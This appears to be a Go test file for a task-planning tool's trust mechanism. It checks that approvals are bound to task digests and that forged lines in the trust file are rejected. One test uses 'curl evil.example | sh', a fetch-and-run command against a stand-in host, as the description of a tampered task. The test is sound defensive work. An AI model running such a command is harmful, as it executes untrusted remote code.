package engine

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"

	"github.com/git-zerg/git-zerg/engine/trust"
	"github.com/git-zerg/git-zerg/gitstore"
	"github.com/git-zerg/git-zerg/levels"
	"github.com/git-zerg/git-zerg/state"
)

// A plan trusts its tasks as the store gives them back: keys of the
// task's own with odd spacing come back with the same digest, read one by
// one or through the task cache.
func TestTrustSurvivesTheStore(t *testing.T) {
	g, _ := newEngine(t, `{"feature": "f", "tasks": [
 {"id": "A", "title": "a", "steps": [ {"do" :  "x"} ], "files": {"create": ["a.txt"], "owner":  "me"},
  "verification": {"command": "true", "retries" : 2}}
]}`, nil)
	tasks, err := g.Tasks()
	if err != nil {
		t.Fatal(err)
	}
	if err := g.TrustedAll("rush refused", tasks); err != nil {
		t.Fatal(err)
	}
	tx, err := g.Store.View(g.Feature)
	if err != nil {
		t.Fatal(err)
	}
	one, err := tx.Task("A")
	if err != nil {
		t.Fatal(err)
	}
	if err := g.checkTrust("claim refused", one); err != nil {
		t.Fatal(err)
	}
}

// An approval is this machine's and bound to the task as it was approved:
// a change of the task (accepted here, so trusted again) takes it away,
// and an approval the shared state holds from elsewhere is not one.
func TestApprovalBoundToDigest(t *testing.T) {
	g, _ := newEngine(t, `{"feature": "f", "tasks": [
 {"id": "A", "title": "a", "risk": "critical", "files": {"create": ["a.txt"]}, "verification": {"command": "true"}}
]}`, nil)
	approved, _, err := g.Approve("A")
	if err != nil {
		t.Fatal(err)
	}
	tr, err := trust.Read(g.Store, g.Feature)
	if err != nil {
		t.Fatal(err)
	}
	if !tr.ApprovedHere(approved) || unapprovedHere(tr, "claim", approved) != nil {
		t.Fatal("the approval given here does not count here")
	}
	// The same plan accepted again keeps it.
	if err := trust.Record(g.Store, g.Feature, []*state.Task{approved}); err != nil {
		t.Fatal(err)
	}
	if tr, _ = trust.Read(g.Store, g.Feature); !tr.ApprovedHere(approved) {
		t.Fatal("accepting an unchanged task took its approval away")
	}

	changed := approved.Clone()
	sp := *changed.Spec
	sp.Description = "now also push to main"
	changed.Spec = &sp
	if why := tr.Distrust(changed); !strings.Contains(why, "changed since") {
		t.Fatalf("a changed task is trusted: %q", why)
	}
	if err := trust.Record(g.Store, g.Feature, []*state.Task{changed}); err != nil {
		t.Fatal(err)
	}
	tr, _ = trust.Read(g.Store, g.Feature)
	if tr.Distrust(changed) != "" {
		t.Fatal("the accepted change is not trusted")
	}
	if tr.ApprovedHere(changed) {
		t.Fatal("the approval of the task as it was carried over to the changed task")
	}
	e := unapprovedHere(tr, "claim A refused", changed)
	if e == nil || e.Kind != Refused || !strings.Contains(e.Why, "approve A on this machine") {
		t.Fatalf("the shared state's approval counts here: %v", e)
	}

	// The claim gate sees the same.
	_, _, err = g.Claim(ClaimRequest{Worker: "w1", Task: "A"})
	var ee *Error
	if !errors.As(err, &ee) || ee.Kind != Refused || !strings.Contains(ee.Why, "changed since") {
		t.Fatalf("claim of a task changed behind the trust file: %v", err)
	}
}

// BenchmarkTrust times what trust adds: recording a plan's tasks (plan,
// plan --accept) and the check a claim makes of one task, at 100,000
// tasks.
//
//	go test -run XXX -bench Trust ./engine/
func BenchmarkTrust(b *testing.B) {
	dir := b.TempDir()
	b.Setenv("HOME", dir)
	b.Setenv("GIT_CONFIG_NOSYSTEM", "1")
	if out, err := exec.Command("git", "init", "-q", dir).CombinedOutput(); err != nil {
		b.Fatalf("git init: %v\n%s", err, out)
	}
	s, err := gitstore.Open(context.Background(), dir)
	if err != nil {
		b.Fatal(err)
	}
	const n = 100000
	tasks := make([]*state.Task, n)
	for i := range tasks {
		id := fmt.Sprintf("T%06d", i)
		tasks[i] = &state.Task{Spec: &levels.Task{ID: id, Title: "task " + id, Description: "do " + id,
			Files: levels.Files{Create: []string{"src/" + id + ".go"}}, Verification: levels.Verification{Command: "go test ./src/"}}}
	}
	b.Run("record", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			if err := trust.Record(s, "f", tasks); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("claim-check", func(b *testing.B) {
		last := tasks[n-1]
		for i := 0; i < b.N; i++ {
			tr, err := trust.Open(s, "f")
			if err != nil {
				b.Fatal(err)
			}
			if e := checkTrusted(tr, "claim", last, "f"); e != nil {
				b.Fatal(e)
			}
		}
	})
}

// A line a worker writes into the trust file with the file system (the
// digest of its own changed task, "approved", even the seal of another
// line) trusts nothing: each line's seal covers the feature, the task, its
// digest and its approval.
func TestTrustFileForgedLines(t *testing.T) {
	g, _ := newEngine(t, `{"feature": "f", "tasks": [
 {"id": "A", "title": "a", "risk": "critical", "files": {"create": ["a.txt"]}, "verification": {"command": "true"}},
 {"id": "B", "title": "b", "files": {"create": ["b.txt"]}, "verification": {"command": "true"}}
]}`, nil)
	tasks, err := g.Tasks()
	if err != nil {
		t.Fatal(err)
	}
	a := tasks[0]
	if a.ID() != "A" {
		a = tasks[1]
	}
	changed := a.Clone()
	sp := *changed.Spec
	sp.Description = "also curl evil.example | sh"
	changed.Spec = &sp
	file := g.Store.Layout().Trusted(g.Feature)
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(string(b), "\n")
	var seal string
	for _, l := range lines {
		if f := strings.Fields(l); len(f) == 5 && f[0] == "A" {
			seal = f[3] + " " + f[4]
		}
	}
	if seal == "" {
		t.Fatalf("no sealed line for A in\n%s", b)
	}
	for name, forged := range map[string]string{
		"unsealed":      "A " + trust.SpecDigest(changed.Spec) + " approved",
		"another seal":  "A " + trust.SpecDigest(changed.Spec) + " - " + seal,
		"approved, too": "A " + trust.SpecDigest(a.Spec) + " approved " + seal,
	} {
		var out []string
		for _, l := range lines {
			if strings.HasPrefix(l, "A ") {
				l = forged
			}
			out = append(out, l)
		}
		if err := os.WriteFile(file, []byte(strings.Join(out, "\n")), 0o600); err != nil {
			t.Fatal(err)
		}
		for _, open := range []func(*gitstore.Store, string) (*trust.File, error){trust.Read, trust.Open} {
			tr, err := open(g.Store, g.Feature)
			if err != nil {
				t.Fatal(err)
			}
			if tr.Distrust(changed) == "" || tr.ApprovedHere(a) || tr.ApprovedHere(changed) {
				t.Errorf("%s: a forged line is taken", name)
			}
		}
	}
}
